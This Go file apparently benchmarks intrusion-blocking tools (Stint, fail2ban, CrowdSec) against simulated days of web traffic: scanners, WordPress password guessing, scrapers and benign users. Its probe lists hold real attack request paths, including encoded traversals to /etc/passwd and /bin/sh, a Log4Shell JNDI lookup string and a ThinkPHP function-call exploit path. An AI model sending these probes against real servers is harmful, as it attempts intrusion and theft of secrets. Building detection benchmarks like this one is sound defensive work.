package detection

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// Site is a day of another site than that of Generate, which answers 404 and 401: what scanners meet
// differs from site to site.
type Site struct {
	Name    string
	Presets []string
	Parts   []Part
}

// Part is one kind of client of a site's day, with its goal.
type Part struct {
	Kind
	Make func(*generator)
	// Least is the part of the clients of an attack that has to be caught, or with ByRequest of their
	// requests that has to be refused; Most is the part of the requests of others that may be refused.
	Least, Most float64
	ByRequest   bool
}

// Day returns the requests of the site's day, which are the same for the same seed.
func (s *Site) Day(seed uint64) *Traffic {
	g := &generator{Rand: rand.New(rand.NewPCG(seed, 3)), share: 1, t: &Traffic{Label: map[netip.Addr]string{}, Attack: map[netip.Addr]time.Time{}}}
	for _, p := range s.Parts {
		g.kind = p.Kind
		p.Make(g)
	}
	slices.SortStableFunc(g.t.Requests, func(a, b Request) int { return a.At.Compare(b.At) })
	return g.t
}

// Sites are the other sites.
func Sites() []Site {
	var all []Site
	for _, status := range []int{404, 200, 302, 403, 500} {
		all = append(all, Site{fmt.Sprintf("answers %d to what it does not have", status), []string{"website"}, []Part{
			{Kind: attack("scanners", "20 addresses, 15 probes each in the encodings of scanners, one in 3 s"), Least: 0.95, Make: func(g *generator) { g.probing(20, 15, status) }},
			{Kind: benign("visitors", "200 people read some pages with their files"), Most: 0.002, Make: func(g *generator) {
				for range 200 {
					g.reads(g.between(0, 23), g.client(), 2+g.IntN(10))
				}
			}},
		}})
	}
	return append(all,
		Site{"is probed once by each", []string{"website"}, []Part{
			{Kind: attack("encoded probes", "80 addresses with one traversal, exploit or page of a device each, most of them encoded"), Least: 1, Make: func(g *generator) {
				for i := range 80 {
					g.add(g.between(0, 24), g.client(), "GET", onceOnly[i%len(onceOnly)], 404, scanner)
				}
			}},
		}},
		Site{"answers 200 to a wrong password", []string{"website", "login"}, []Part{
			{Kind: attack("guessing", "10 addresses, 200 passwords each at WordPress, one in 10 s"), Least: 1, Make: func(g *generator) {
				for i := range 10 {
					a, at := g.client(), g.between(0, 20)
					for range 200 {
						g.form(at, a, fmt.Sprint("admin-", i), false, scanner)
						at = at.Add(10*time.Second + g.upTo(time.Second))
					}
				}
			}},
			{Kind: benign("authors", "60 people behind 2 addresses log in, a third with a wrong password first"), Most: 0.01, Make: func(g *generator) {
				for office := range 2 {
					a := g.client()
					for person := range 30 {
						at, account := g.between(8, 10), fmt.Sprintf("author-%d-%d", office, person)
						if g.IntN(3) == 0 {
							g.form(at, a, account, false, browser)
							at = at.Add(8*time.Second + g.upTo(10*time.Second))
						}
						g.form(at, a, account, true, browser)
						g.reads(at.Add(5*time.Second), a, 3)
					}
				}
			}},
		}},
		Site{"has offices that log in", []string{"website", "login"}, []Part{
			{Kind: benign("logins", "20, 80, 200 and 500 people behind one address each log in within two hours, three in ten with a wrong password first"), Most: 0.01, Make: func(g *generator) {
				for office, people := range []int{20, 80, 200, 500} {
					a := g.client()
					for person := range people {
						at, account := g.between(8, 10), fmt.Sprintf("person-%d-%d", office, person)
						if g.IntN(10) < 3 {
							g.form(at, a, account, false, browser)
							at = at.Add(8*time.Second + g.upTo(10*time.Second))
						}
						g.form(at, a, account, true, browser)
					}
				}
			}},
		}},
		Site{"has busy and unlucky clients", []string{"website"}, []Part{
			{Kind: benign("monitor", "one address, 50 requests a second for ten minutes"), Make: func(g *generator) {
				a := g.client()
				for i := range 50 * 600 {
					g.add(day.Add(time.Duration(i)*20*time.Millisecond), a, "GET", "/health", 200, "monitor/1")
				}
			}},
			{Kind: benign("expired token", "5 apps whose token has expired ask 300 times and get 403"), Make: func(g *generator) {
				for range 5 {
					a, at := g.client(), g.between(1, 20)
					for range 300 {
						g.add(at, a, "POST", "/api/collect", 403, "App/3")
						at = at.Add(2 * time.Second)
					}
				}
			}},
			{Kind: benign("CDN edges", "4 addresses of Cloudflare with 200 visitors behind each, and a scanner"), Make: func(g *generator) {
				for edge := range 4 {
					a := g.named(netip.AddrFrom4([4]byte{172, 71, 10, byte(edge)}))
					for range 200 {
						g.reads(g.between(0, 23), a, 3)
					}
					for i, p := range probes {
						g.add(day.Add(time.Duration(5+i)*time.Minute), a, "GET", p, 404, browser)
					}
				}
			}},
			{Kind: benign("offices", "20, 80, 200 and 500 people behind one address each"), Make: func(g *generator) {
				for _, people := range []int{20, 80, 200, 500} {
					a := g.client()
					for range people {
						g.reads(g.between(8, 18), a, 1+g.IntN(5))
					}
				}
			}},
		}},
		Site{"is a code forge", []string{"website", "scraping"}, []Part{
			{Kind: attack("scrapers in 12 cloud networks", "720 addresses in 12 /24, 40 different deep pages each"), Least: 0.7, ByRequest: true, Make: func(g *generator) {
				for i := range 720 {
					a := g.named(netip.AddrFrom4([4]byte{45, byte(60 + i%12), 7, byte(i / 12)}))
					for range 40 {
						g.add(g.between(0, 24), a, "GET", g.deepPage(), 200, browser)
					}
				}
			}},
			{Kind: attack("scrapers in one /16", "3,000 addresses, three different deep pages each"), Least: 0.7, ByRequest: true, Make: func(g *generator) {
				for i := range 3000 {
					a := g.named(netip.AddrFrom4([4]byte{47, 82, byte(i % 250), byte(i / 250)}))
					for range 3 {
						g.add(g.between(6, 18), a, "GET", g.deepPage(), 200, browser)
					}
				}
			}},
			{Kind: benign("developers", "300 people read 5 to 44 deep pages"), Most: 0.005, Make: func(g *generator) {
				for i := range 300 {
					a, at := g.named(netip.AddrFrom4([4]byte{byte(80 + i%20), byte(i % 37), byte(i), 9})), g.between(7, 20)
					for range 5 + g.IntN(40) {
						g.add(at, a, "GET", g.deepPage(), 200, browser)
						at = at.Add(20*time.Second + g.upTo(2*time.Minute))
					}
				}
			}},
		}},
	)
}

func attack(name, about string) Kind { return Kind{name, true, about} }

func benign(name, about string) Kind { return Kind{name, false, about} }

// probes are what scanners ask for, as they are sent: programs that the site does not run, secrets, and
// traversals in several encodings.
var probes = []string{
	"/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/pma/", "/manager/html", "/solr/admin/cores", "/shell.php", "/alfa.php", "/wso.php",
	"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/.env", "/.git/config", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/%2e%2e/%2e%2e/etc/passwd", "/index.php?lang=../../../tmp/x",
	"/boaform/admin/formLogin", "/actuator/env", "/login.action", "/autodiscover/autodiscover.json?a=b@c/mapi/nspi", "/old/index.php", "/admin.php", "/config.php", "/adminer.php",
}

// onceOnly are probes of which one is enough.
var onceOnly = []string{
	"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "/%252e%252e/%252e%252e/etc/passwd", "/..%c0%af..%c0%afetc/passwd", "/static/..%5c..%5cwindows/win.ini",
	"/%2eenv", "/.%67it/config", "/a/..;/manager/html/../../.env", "/?q=$%7Bjndi:ldap://192.0.2.1/a%7D", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
	"/boaform/admin/formLogin", "/HNAP1/", "/currentsetting.htm", "/config/getuser?index=0", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/GponForm/diag_Form?images/",
}

// probing has addresses ask for some of the probes each.
func (g *generator) probing(addresses, each, status int) {
	for range addresses {
		a, at := g.client(), g.between(0, 20)
		for _, p := range g.Perm(len(probes))[:each] {
			g.add(at, a, "GET", probes[p], status, scanner)
			at = at.Add(3*time.Second + g.upTo(time.Second))
		}
	}
}

// form logs in at a form that is shown again after a wrong password, as that of WordPress.
func (g *generator) form(at time.Time, a netip.Addr, account string, works bool, agent string) {
	status := 200
	if works {
		status = 302
	}
	g.add(at, a, "POST", "/wp-login.php", status, agent)
	g.t.Requests[len(g.t.Requests)-1].Account = account
}

// deepPage is a page of a code forge that costs it much.
func (g *generator) deepPage() string {
	return fmt.Sprintf("/team/project/%s/%x", []string{"commit", "blame/main/file", "compare", "raw/branch/main"}[g.IntN(4)], g.Uint32())
}

// partScore is what a system did to one kind of client.
type partScore struct{ clients, caught, requests, refused int }

func (p partScore) ofRequests() float64 { return float64(p.refused) / float64(max(1, p.requests)) }
func (p partScore) ofClients() float64  { return float64(p.caught) / float64(max(1, p.clients)) }

// scoreParts returns the scores by the names of the kinds.
func scoreParts(t *Traffic, refused []bool) map[string]partScore {
	seen, caught, all := map[netip.Addr]bool{}, map[netip.Addr]bool{}, map[string]partScore{}
	for i, r := range t.Requests {
		label := t.Label[r.Address]
		p := all[label]
		if p.requests++; !seen[r.Address] {
			seen[r.Address] = true
			p.clients++
		}
		if refused[i] {
			if p.refused++; !caught[r.Address] {
				caught[r.Address] = true
				p.caught++
			}
		}
		all[label] = p
	}
	return all
}

// isReached reports whether a score reaches the goal of a part.
func (p *Part) isReached(s partScore) bool {
	switch {
	case !p.IsAttack:
		return s.ofRequests() <= p.Most
	case p.ByRequest:
		return s.ofRequests() >= p.Least
	default:
		return s.ofClients() >= p.Least
	}
}

// goal says in words what a part has to reach.
func (p *Part) goal() string {
	switch {
	case !p.IsAttack:
		return fmt.Sprintf("at most %.1f %% refused", 100*p.Most)
	case p.ByRequest:
		return fmt.Sprintf("%.0f %% refused", 100*p.Least)
	default:
		return fmt.Sprintf("%.0f %% caught", 100*p.Least)
	}
}

// writeSites writes what each system does on the other sites.
func writeSites(ctx context.Context, b *strings.Builder, seed uint64) error {
	b.WriteString("\n## Other sites\n\nDays of their own, since scanners meet something else on each site. Stint has the presets that are named, the others are as above. " +
		"An attack is *caught* by the part of its clients of which a request is refused, and *refused* by the part of its requests.\n\n" +
		"| a site that | client | Stint | fail2ban | CrowdSec | goal |\n|---|---|---|---|---|---|\n")
	for _, site := range Sites() {
		t := site.Day(seed)
		var scores []map[string]partScore
		for _, decide := range []system{stint(site.Presets...), fail2ban, crowdSec} {
			refused, _, err := decide(ctx, t)
			if errors.Is(err, errNotInstalled) {
				scores = append(scores, nil)
				continue
			}
			if err != nil {
				return err
			}
			scores = append(scores, scoreParts(t, refused))
		}
		for _, p := range site.Parts {
			fmt.Fprintf(b, "| %s (`%s`) | %s: %s |", site.Name, strings.Join(site.Presets, "`, `"), p.Name, p.About)
			writeScores(b, &p, scores)
		}
	}
	return nil
}

// writeScores writes the rest of a row: what each system did, Stint first, and whether it reached the goal.
func writeScores(b *strings.Builder, p *Part, scores []map[string]partScore) {
	for _, s := range scores {
		switch score := s[p.Name]; {
		case s == nil:
			b.WriteString(" not installed |")
		case p.IsAttack:
			fmt.Fprintf(b, " %d of %d caught, %.0f %% refused |", score.caught, score.clients, 100*score.ofRequests())
		default:
			fmt.Fprintf(b, " %.2f %% of %d refused |", 100*score.ofRequests(), score.requests)
		}
	}
	reached := "yes"
	if !p.isReached(scores[0][p.Name]) {
		reached = "no"
	}
	fmt.Fprintf(b, " %s: %s |\n", p.goal(), reached)
}
